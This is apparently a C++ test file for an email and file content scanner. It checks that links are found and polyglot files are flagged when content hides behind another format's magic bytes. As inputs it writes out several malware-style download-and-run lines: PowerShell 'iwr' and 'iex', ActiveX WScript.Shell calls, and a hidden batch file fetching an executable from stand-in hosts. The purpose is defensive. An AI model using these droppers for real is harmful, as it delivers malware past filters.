// Files and bodies that begin like something else than what mail programs, browsers and Windows open them as.
#include <doctest/doctest.h>

#include <algorithm>

#include "content/testing.h"

namespace sekisho::content {
namespace {

const std::string url = "https://shown.example.com/session";
const std::string page = "<html><body><p>Please sign in</p><a href=\"" + url + "\">Log in</a></body></html>";
const std::string prose = "\r\nPlease sign in at " + url + " before noon.\r\n";

bool links_there(const Document& document) { return links_to(document, url); }

// What stands before a page or a program.
const std::string beginnings[] = {"GIF89a",
                                  "%PDF-1.4\r\n",
                                  std::string("PK\x03\x04", 4),
                                  "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\n",
                                  "begin 644 a.txt\r\n",
                                  "%!PS\r\n",
                                  "RIFF",
                                  "MZ",
                                  "ID3",
                                  "Rar!\x1a\x07",
                                  "(This file must be converted with BinHex\r\n",
                                  "=ybegin line=128 size=5 name=a\r\n",
                                  "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1",
                                  "BEGIN:VCALENDAR\r\n",
                                  "[InternetShortcut]\r\nURL=https://other.example/\r\n",
                                  "\x1F\x8B\x08",
                                  "\x7F"
                                  "ELF",
                                  "-----BEGIN PKCS7-----\r\n",
                                  "-----BEGIN CERTIFICATE-----\r\n",
                                  "bplist00",
                                  std::string("\0\0\0\0", 4),
                                  "\xFF\xFB",
                                  "BM=1;"};

}  // namespace

TEST_CASE("a body that begins like a file is read as the text that mail programs show") {
  for (const auto& beginning : beginnings) {
    CAPTURE(beginning);
    const std::string head = "From: a@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\n";
    CHECK(links_there(read_as_mail(head + "Content-Type: text/html\r\n\r\n" + beginning + page)));
    CHECK(links_there(read_as_mail(head + "Content-Type: text/plain\r\n\r\n" + beginning + prose)));
    CHECK(links_there(
        read_as_mail(head +
                     "Content-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\n\r\nsee\r\n--q\r\nContent-Type: "
                     "application/octet-stream; name=page.html\r\n\r\n" +
                     beginning + page + "\r\n--q--\r\n")));
  }
}

TEST_CASE("a program that begins like a file is read as the program that its name makes it") {
  struct Row {
    std::string name, source;
  };
  const Row rows[] = {{"run.js", "=1;\r\nnew ActiveXObject(\"WScript.Shell\").Run(\"powershell iwr " + url + "\");"},
                      {"run.bat", "\r\npowershell -w hidden iwr " + url + " -OutFile a.exe\r\n"},
                      {"run.ps1", "\r\niex (iwr " + url + ")\r\n"},
                      {"run.hta", "<html><script>new ActiveXObject(\"WScript.Shell\").Run(\"powershell iwr " + url +
                                      "\")</script></html>"},
                      {"run.url", "\r\n[InternetShortcut]\r\nURL=" + url + "\r\n"},
                      {"mail.eml",
                       "\r\nFrom: a@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: "
                       "text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<a "
                       "href=3D\"https://shown.exa=\r\nmple.com/session\">x</a>\r\n"}};
  for (const auto& row : rows) {
    for (const auto& beginning : beginnings) {
      CAPTURE(row.name);
      CAPTURE(beginning);
      // A blank line would end the header of a mail.
      const auto source = row.name == "mail.eml" && beginning.ends_with("\r\n") ? row.source.substr(2) : row.source;
      CHECK(links_there(read_named(beginning + source, row.name)));
    }
  }
}

TEST_CASE("a page behind another file's beginning is a polyglot, one behind its own is none") {
  CHECK(has_trait(read_named("ID3" + page, "page.html"), "file.polyglot"));
  CHECK(has_trait(read_named("MZ" + page, "page.hta"), "file.polyglot"));
  CHECK_FALSE(has_trait(read_named(page, "page.html"), "file.polyglot"));
  CHECK_FALSE(
      has_trait(read_named("-----BEGIN PGP SIGNED MESSAGE-----\r\n\r\n" + prose, "letter.asc"), "file.polyglot"));
}

TEST_CASE("a batch file behind the mark of UTF-16 is read as the command line reads it") {
  const std::string bytes = "\xFF\xFE&cls\r\npowershell -w hidden iwr https://far.example/x -o x.exe\r\n";
  const auto document = read_named(bytes, "a.cmd");
  CHECK(has_trait(document, "script.shell"));
  CHECK(has_trait(document, "script.download"));
  CHECK(links_to(document, "https://far.example/x"));
}

}  // namespace sekisho::content
